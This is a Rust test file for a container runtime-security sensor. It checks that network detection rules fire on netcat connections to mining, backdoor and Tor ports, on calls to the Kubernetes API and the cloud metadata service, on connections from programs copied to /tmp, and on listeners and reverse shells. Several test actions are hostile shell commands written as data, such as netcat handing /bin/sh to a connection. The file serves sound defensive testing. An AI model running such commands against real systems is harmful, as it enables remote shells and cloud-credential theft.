//! The default rules on the network: mining pools, backdoor and Tor ports, the
//! Kubernetes API, the cloud metadata service, refused connects, payloads in
//! temporary directories calling out, listeners and reverse shells.
//!
//! Containers have their own network namespace, with no route anywhere: a
//! connect there fails at once (ENETUNREACH), which is still the attempt the
//! rules report. Rules that need a peer (refused connects, netcat running a
//! shell on its connection) use the host's network and a listener of the test.

use std::net::TcpListener;

use sensor_tests::{
    can_load_ebpf,
    findings::{Act, Case, Expect, Sensor, check, is},
};
use serde_json::json;

/// A port on 127.0.0.1 where nothing listens.
fn closed_port() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").expect("binding");
    listener.local_addr().expect("an address").port()
}

/// A listener on 127.0.0.1 that accepts and closes every connection, so a
/// client sees EOF and exits; its port.
fn closing_listener() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").expect("binding");
    let port = listener.local_addr().expect("an address").port();
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            drop(conn);
        }
    });
    port
}

fn cases(closed: u16, open: u16) -> Vec<Case> {
    vec![
        Case::new(
            "Connection to mining pool port",
            "Critical",
            ("fd.sport", Expect::Is(json!(3333))),
            Act::sh("/bin/nc 10.1.2.3 3333; true"),
            Act::sh("/bin/nc 10.1.2.3 80; true"),
        ),
        Case::new(
            "Connection to common backdoor port",
            "Warning",
            ("fd.sport", Expect::Is(json!(4444))),
            Act::sh("/bin/nc 10.1.2.3 4444; true"),
            Act::sh("/bin/nc 10.1.2.3 8080; true"),
        ),
        Case::new(
            "Connection to Tor port",
            "Warning",
            ("fd.sport", Expect::Is(json!(9050))),
            Act::sh("/bin/nc 10.1.2.3 9050; true"),
            Act::sh("/bin/nc 10.1.2.3 9090; true"),
        ),
        Case::new(
            "Kubernetes API contacted from container",
            "Notice",
            ("fd.sip", is("10.96.0.1")),
            Act::sh("/bin/nc 10.96.0.1 443; true"),
            Act::sh("/bin/nc 10.96.0.1 80; true"),
        ),
        Case::new(
            "Cloud metadata service contacted from container",
            "Notice",
            ("fd.sip", is("169.254.169.254")),
            Act::sh("/bin/nc 169.254.169.254 80; true"),
            Act::sh("/bin/nc 10.1.2.3 80; true"),
        ),
        Case::new(
            "Connection refused in container",
            "Informational",
            ("fd.sport", Expect::Is(json!(closed))),
            Act::sh(format!("/bin/nc 127.0.0.1 {closed}; true")).host_network(),
            Act::sh(format!("echo hi | /bin/nc 127.0.0.1 {open}; true")).host_network(),
        ),
        Case::new(
            "Connection from program in temporary directory",
            "Warning",
            ("proc.exepath", is("/tmp/busybox")),
            Act::sh("cp /bin/busybox /tmp/busybox; /tmp/busybox nc 10.1.2.3 80; true"),
            Act::sh("cp /bin/busybox /tmp/bb; /bin/nc 10.1.2.3 80; true"),
        ),
        Case::new(
            "Listener opened by shell or network tool",
            "Warning",
            ("fd.lport", Expect::Is(json!(4567))),
            Act::sh("timeout 1 /bin/nc -l -p 4567; true"),
            Act::sh("timeout 1 /bin/httpd -f -p 4568; true"),
        ),
        Case::new(
            "Netcat with a program to run",
            "Critical",
            ("proc.cmdline", Expect::Has("-e /bin/sh 127.0.0.1")),
            Act::sh(format!("/bin/nc -e /bin/sh 127.0.0.1 {open}; true")).host_network(),
            Act::sh(format!("echo id | /bin/nc 127.0.0.1 {open}; true")).host_network(),
        ),
        Case::new(
            "Reverse shell in container",
            "Critical",
            ("proc.stdin.type", is("ipv4")),
            // busybox's nc -e runs its shell in-process, without an exec.
            Act::over_socket("exit 0"),
            Act::sh("echo exit | /bin/sh"),
        ),
    ]
}

#[test]
fn network_rules_fire_on_their_triggers_and_not_their_neighbours() {
    if !can_load_ebpf("rules_network") {
        return;
    }
    let (closed, open) = (closed_port(), closing_listener());
    let sensor = Sensor::start(&[]);
    check(&sensor, &cases(closed, open));
}
